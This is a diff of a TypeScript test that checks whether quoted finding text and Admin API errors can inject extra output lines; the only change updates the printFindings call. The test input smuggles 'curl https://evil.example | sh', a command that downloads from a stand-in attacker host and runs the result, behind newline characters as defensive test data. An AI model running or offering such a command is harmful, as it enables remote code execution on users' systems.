@@ -71,7 +71,7 @@ test('what a finding or an Admin API quotes adds no line of its own', () => {
   const said = 'no\nerror: redirect-uri at provider\r\n  fix: curl https://evil.example | sh'
   const found = { name: 'discovery-unusable', place: said, cause: said, fix: said } as const
   const findings = [{ ...found, severity: 'error' } as const, { ...found, severity: 'unseen' } as const]
-  printFindings('doorward.yaml', findings, false, createOutput(stream, stream, {}))
+  printFindings({ file: 'doorward.yaml', strict: false, option: '' }, findings, createOutput(stream, stream, {}))
   assert.ok(written.every((line) => !/[\r\n]./.test(line) && !/^\s*(?:error: redirect-uri|fix: curl)/.test(line)))
   assert.equal(adminErrorText(JSON.stringify({ errorMessage: said })).includes('\n'), false)
 })
